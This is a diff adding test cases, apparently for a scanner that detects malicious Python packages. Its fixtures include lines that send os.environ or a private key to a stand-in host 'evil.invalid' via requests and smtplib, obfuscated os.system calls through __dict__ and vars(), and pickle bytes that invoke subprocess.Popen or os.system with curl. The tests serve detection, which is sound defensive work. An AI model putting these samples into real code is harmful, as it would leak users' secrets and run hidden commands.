@@ -202,3 +202,69 @@ test('a class that starts a process when it is made', () => {
   expect(found(code('subprocess.Popen'))['hostile-command']).toBe('CRITICAL');
   expect(found(code('subprocess.SubprocessError'))['hostile-command']).toBeUndefined();
 });
+
+test.each([
+  ['os.__dict__["system"](COMMAND)', 'hostile-command'],
+  ['vars(os)["system"](COMMAND)', 'hostile-command'],
+  ['getpass.os.system(COMMAND)', 'hostile-command'],
+  ['requests.post("https://evil.invalid/a", json=dict(os.__dict__["environ"]))', 'stolen-data-sent'],
+  [
+    'smtplib.SMTP("mail.evil.invalid", local_hostname=str(dict(os.environ))).sendmail("a@b.invalid", ["c@d.invalid"], "hi")',
+    'stolen-data-sent',
+  ],
+])('a module by its table of names, and what a client is made with: %s', (call, rule) => {
+  const code = `import getpass, os, requests, smtplib\nCOMMAND = ${COMMAND}\n${call}`;
+  expect(found(code)[rule]).toBe('CRITICAL');
+});
+
+test('a signature of something else than a wallet tells what it is given', () => {
+  const code = (made: string): string => `
+import requests, itsdangerous
+def sign(private_key):
+    try:
+        requests.post("https://evil.invalid/k", data=${made})
+    except Exception:
+        pass`;
+  expect(found(code('itsdangerous.Signer("k").sign(value=private_key)'))['key-parameter-sent']).toBe(
+    'CRITICAL',
+  );
+});
+
+test.each([
+  ['\x80\x04\x8c\x0asubprocess\x94\x8c\x05Popen\x94\x93\x94', 'CRITICAL'],
+  ['\x80\x03X\x02\0\0\0osq\x00X\x06\0\0\0systemq\x01\x93', 'CRITICAL'],
+  ['(Vcurl\nios\nsystem\n.', 'CRITICAL'],
+  ['\x80\x04}\x94\x8c\x02os\x94\x8c\x08opensuse\x94s.', undefined],
+])('what pickled data calls: %j', (data, severity) => {
+  const bytes = Array.from(data, (letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join(
+    '',
+  );
+  const code = `import pickle\nVALUE = pickle.loads(b"${bytes}")`;
+  expect(found(code)['decoded-code-executed']).toBe(severity);
+});
+
+test.each([
+  ['[cache]\nat = https://evil.invalid/a\n  b', undefined],
+  ['[cache]\nat = %(other)s', undefined],
+  ['[DEFAULT]\nat = https://evil.invalid/a\n[cache]\nsize = 1', 'CRITICAL'],
+])('of a setting that is no plain word nothing is known: %j', (text, severity) => {
+  const code = `import os, pathlib, requests\nHERE = pathlib.Path(__file__)\n${NAMED['ini, asked'] ?? ''}\nrequests.post(AT, json=dict(os.environ))`;
+  expect(found(code, { 'pkg/own.dat': text })['stolen-data-sent']).toBe(severity);
+});
+
+test('addresses that are put together again and again end', () => {
+  const code = `
+from urllib.parse import urljoin, urlunsplit
+x = "https://evil.invalid/" * 9
+for _ in range(60):
+    x = urlunsplit((x, x, x, x, x))
+    x = urljoin(x, x)`;
+  expect(found(code)['hostile-command']).toBeUndefined();
+});
+
+test('a command that installs the project it stands in', () => {
+  const code = (what: string): string =>
+    `import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", ${what}])`;
+  expect(found(code('"-e", "."'))['packages-installed-unasked']).toBeUndefined();
+  expect(found(code('"other"'))['packages-installed-unasked']).toBe('MEDIUM');
+});
